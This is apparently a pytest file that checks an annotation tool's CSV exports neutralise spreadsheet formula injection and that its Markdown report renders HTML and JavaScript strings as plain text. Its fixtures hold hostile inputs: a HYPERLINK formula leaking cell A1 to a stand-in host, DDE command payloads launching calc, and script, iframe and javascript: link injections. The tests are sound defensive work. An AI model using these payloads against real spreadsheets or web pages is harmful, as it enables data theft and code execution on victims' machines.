"""Text that leaves the program is text: every CSV Annotator writes neutralises cells a
spreadsheet would compute (OWASP's CSV-injection rule), unless ``--raw-csv``; the
Markdown report, rendered by a real CommonMark renderer with HTML allowed, shows the
hostile strings as text and opens no tag and no link."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from annotator.core.cells import neutralised
from annotator.core.changes import RelationChange
from annotator.core.commands import AddSpan, Batch, make_span
from annotator.core.history import History
from annotator.core.models import Label, replace_relation
from annotator.core.relating import link
from annotator.io.load import open_project
from annotator.io.save import save_project
from tests.test_cli import run

FORMULA = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
A = f"{FORMULA} said Varga.\n+cmd|' /C calc'!A0 and @SUM(1+1) and -2+3 here.\n"
B = "Varga spoke.\n=1+2 was written on the wall. [x](javascript:alert(1)) <iframe src=x>\n"
EVIL_LABEL = "<script>alert(1)</script>"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def project_path(tmp_path: Path) -> Path:
    root = tmp_path / "proj"
    root.mkdir()
    (root / "a.txt").write_text(A, encoding="utf-8")
    (root / "b.txt").write_text(B, encoding="utf-8")
    project, _ = open_project(root)
    project.labels.append(Label(name=EVIL_LABEL))  # a colleague's project file may have it
    history = History(project)

    def tag(doc: str, words: str, label: str, author: str) -> tuple[str, str]:
        text = project.document(doc).text
        at = text.index(words)
        span = make_span(project.document(doc), at, at + len(words), label, author=author)
        history.execute(AddSpan(doc, span))
        return (doc, span.id)

    for who in ("ann", "bob"):
        tag("a", FORMULA, "claim", who)
        tag("a", "+cmd|' /C calc'!A0", "entity", who)
        tag("b", "=1+2 was written on the wall.", "claim", who)
    tag("a", "@SUM(1+1)", "entity", "ann")
    tag("a", "-2+3", "entity", "bob")
    tag("b", "[x](javascript:alert(1)) <iframe src=x>", "quote", "ann")
    tag("b", "wall", EVIL_LABEL, "ann")
    claim_a = tag("a", "Varga", "entity", "ann")
    claim_b = tag("b", "Varga", "entity", "ann")
    history.execute(link(project, "same", claim_a, claim_b))
    batch = link(
        project,
        "contradicts",
        tag("a", f"{FORMULA} said Varga.", "claim", "ann"),
        tag("b", "Varga spoke.", "claim", "ann"),
    )
    relation = batch.changes[0].after  # type: ignore[union-attr]
    noted = replace_relation(relation, note="=cmd|' /C calc'!A0")
    history.execute(Batch("link", (RelationChange(noted.id, None, noted),)))
    save_project(project)
    return root


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _stdout(*args: str) -> str:
    done = run(*args)
    assert done.returncode == 0, done.stderr
    return done.stdout


def _outputs(root: Path, tmp_path: Path, *extra: str) -> dict[str, str]:
    out = {}
    _stdout("export", str(root), "-f", "csv", "-o", str(tmp_path / "spans.csv"), *extra)
    out["export"] = (tmp_path / "spans.csv").read_text(encoding="utf-8")
    out["compare"] = _stdout("compare", str(root), "-f", "csv", *extra)
    out["agree"] = _stdout("agree", str(root), "-f", "csv", *extra)
    out["adjudicate"] = _stdout("adjudicate", str(root), "-f", "csv", *extra)
    return out


def test_no_csv_holds_a_cell_a_spreadsheet_would_compute(
    project_path: Path, tmp_path: Path
) -> None:
    outputs = _outputs(project_path, tmp_path)
    for command, text in outputs.items():
        cells = _cells(text)
        assert cells, command
        bad = [c for c in cells if c.startswith(DANGEROUS) and neutralised(c) != c]
        assert bad == [], (command, bad)
    spans = _cells(outputs["export"])
    assert "'" + FORMULA in spans and "'@SUM(1+1)" in spans and "'-2+3" in spans
    assert any(c.startswith("'=1+2") for c in _cells(outputs["compare"]))
    assert any(
        c.startswith("'=HYPERLINK") or "'=HYPERLINK" in c for c in _cells(outputs["adjudicate"])
    )


def test_raw_csv_writes_the_bytes(project_path: Path, tmp_path: Path) -> None:
    outputs = _outputs(project_path, tmp_path, "--raw-csv")
    assert FORMULA in _cells(outputs["export"])
    assert any(c.startswith("=1+2") for c in _cells(outputs["compare"]))


def test_numbers_stay_numbers() -> None:
    assert neutralised("-0.25") == "-0.25" and neutralised(-3) == -3
    assert neutralised("+1e-3") == "+1e-3"
    assert neutralised("-0.25+cmd") == "'-0.25+cmd"
    assert neutralised("=1") == "'=1" and neutralised("\t=1") == "'\t=1"


def test_the_markdown_report_renders_as_text(project_path: Path) -> None:
    text = _stdout("compare", str(project_path), "-f", "md")
    html = MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(text)
    lowered = html.lower()
    assert "<iframe" not in lowered and "<script" not in lowered
    assert 'href="javascript' not in lowered and "<a " not in lowered
    # and the strings are still there, as text
    assert "&lt;iframe src=x&gt;" in html
    assert "[x](javascript:alert(1))" in _visible(html)
    assert EVIL_LABEL in _visible(html)


def _visible(html: str) -> str:
    import lxml.html

    return lxml.html.fromstring(f"<div>{html}</div>").text_content()
